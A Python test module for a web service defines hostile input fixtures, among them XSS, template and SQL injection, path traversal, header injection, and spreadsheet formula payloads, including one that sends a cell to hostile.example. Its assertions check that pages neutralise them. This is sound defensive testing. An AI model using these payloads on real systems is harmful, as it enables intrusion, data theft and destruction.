"""One set of hostile texts, and what must never come of them, whatever page or file they turn up in."""

from __future__ import annotations

import re
from dataclasses import dataclass

from bs4 import BeautifulSoup, Tag

from tests.pages import check_page, text_of

PRODUCT = "9801547"  # 1337 * 7331: stands on a page only if somebody calculated it
INNARDS = ("Traceback (most recent", "sqlalchemy", "psycopg", "sqlite3.", "IntegrityError", "werkzeug.", "jinja2.")
SQL = re.compile(r"\b(SELECT|INSERT INTO|DELETE FROM|UPDATE) [a-z_]+[ .,(]")
TURNING = re.compile("[\u202a-\u202e\u2066-\u2069]")
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@dataclass(frozen=True)
class Hostile:
    """`text` as it is sent; `kept` as an answer in many lines must be stored and shown (empty: nothing is left)."""

    name: str
    text: str
    kept: str


def _hostile(name: str, text: str, kept: str | None = None) -> Hostile:
    return Hostile(name, text, text if kept is None else kept)


TEXTS = (
    _hostile("script", "<script>alert('xhostile')</script>"),
    _hostile("element", "<xhostile>bold</xhostile><img src=x onerror=alert(1)>"),
    _hostile("leaves an attribute", '" xhostile="1" onfocus="alert(1)" autofocus="'),
    _hostile("leaves an attribute in apostrophes", "' xhostile='1' onfocus='alert(1)"),
    _hostile("leaves a textarea", "</textarea></title></option></select><xhostile>"),
    _hostile("leaves a comment", "--><xhostile><!--"),
    _hostile("entities", "&lt;xhostile&gt; &amp; &#60;xhostile&#62; &notanentity"),
    _hostile("template", "{{ 1337 * 7331 }} {% xhostile %} ${1337*7331} #{1337*7331} {{ config }}"),
    _hostile("format", "%s %(ward)s %n {0} {place}"),
    _hostile("formula", "=cmd|'/c calc'!A1"),
    _hostile("link formula", '=HYPERLINK("http://hostile.example?x="&A1;"Click")'),
    _hostile("plus", "+1337*7331"),
    _hostile("minus", "-1337*7331"),
    _hostile("at", "@SUM(1337*7331)"),
    _hostile("wide equals", "\uff1d1337*7331"),
    _hostile("tab first", "\t=1337*7331", "=1337*7331"),
    _hostile("return first", "\r=1337*7331", "=1337*7331"),
    _hostile("newline first", "\n\n@SUM(1337*7331)", "@SUM(1337*7331)"),
    _hostile("right to left", "safe \u202egpj.exe\u202c \u2066isolated\u2069", "safe gpj.exe isolated"),
    _hostile("arabic and hebrew", "\u0623\u0634\u0639\u0631 \u05d1\u05d8\u05d5\u05d7"),
    _hostile("nul", "before\0after", "beforeafter"),
    _hostile("controls", "a\x01\x07b\x1b[31mc\x7fd\x9be", "ab[31mcde"),
    _hostile("only what nobody sees", "\x00\x01\u202e \t\r\n", ""),
    _hostile("no characters", "a\ufdd0b\uffffc\U0001fffed", "abcd"),
    _hostile("line ends", "one\r\ntwo\rthree\u2028four\x85five", "one\ntwo\nthree\nfour\nfive"),
    _hostile(
        "emoji", "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1ec\U0001f1e7"
    ),
    _hostile("accents on accents", "Z" + "\u0336" * 60 + "\u0351" * 60),
    _hostile("one long word", "x" * 480),
    _hostile("path", "../../../../etc/passwd"),
    _hostile("backward path", "..\\..\\windows\\win.ini"),
    _hostile("sql", "'; DROP TABLE response; --"),
    _hostile("more sql", "1' OR '1'='1\" UNION SELECT password FROM user --"),
    _hostile("escape of a workbook", "_x0041_ _x000D_ _x005F_x0041_"),
    _hostile("csv", 'say "no", then;\r\n"yes"\t\'', 'say "no", then;\n"yes" \''),
    _hostile("shorthand of a workbook", "[c]"),
    _hostile("not a number", "NaN"),
    _hostile("script address", "javascript:alert('xhostile')"),
    _hostile("header", "x\r\nSet-Cookie: xhostile=1", "x\nSet-Cookie: xhostile=1"),
)
LONGEST = Hostile("too long", "x " * 50_000, "")
ONE_LINE = tuple(h for h in TEXTS if not re.search(r"[\0\r\n]", h.text))  # what an address or a header can carry


def check_answer(html: str, what: str = "") -> BeautifulSoup:
    """Return the soup of a whole page that holds nothing alive of a hostile text, nor anything of our innards."""
    soup = check_page(html)
    assert not soup.find_all("xhostile"), f"{what}: a hostile text became an element"
    assert not soup.find_all(attrs={"xhostile": True}), f"{what}: a hostile text became an attribute"
    assert PRODUCT not in html, f"{what}: something was calculated"
    assert not soup.select('[href^="javascript:" i], [src^="javascript:" i]'), (
        f"{what}: a hostile text became an address"
    )
    assert not TURNING.search(html), f"{what}: a mark that turns text round"
    assert not UNSEEN.search(html), f"{what}: a control character"
    check_body(html, what)
    return soup


def check_body(body: str, what: str = "") -> None:
    """Fail when a body of any kind shows how the service is made."""
    assert not [word for word in INNARDS if word in body], f"{what}: innards in the answer"
    assert not SQL.search(body.replace("UNION SELECT password FROM", "")), f"{what}: SQL in the answer"


def is_sentence(text: str) -> bool:
    """Whether a text begins with a capital and has the words of a sentence that says what to do."""
    return bool(re.match(r"[A-Z0-9“‘'\"]", text)) and len(text.split()) >= 3 and "None" not in text.split()


def errors_on(soup: BeautifulSoup) -> list[str]:
    """The sentences of the error summary."""
    return [text_of(link) for link in soup.select(".govuk-error-summary a")]


def check_error_page(soup: BeautifulSoup, what: str = "") -> str:
    """Return the sentence of an error page, which must be a whole one."""
    main = soup.select_one("main")
    assert isinstance(main, Tag)
    paragraph = main.select_one("p")
    assert paragraph is not None, f"{what}: no sentence on the error page"
    sentence = text_of(paragraph)
    assert is_sentence(sentence), f"{what}: {sentence!r}"
    assert sentence.endswith((".", "?", "!")), f"{what}: {sentence!r}"
    return sentence
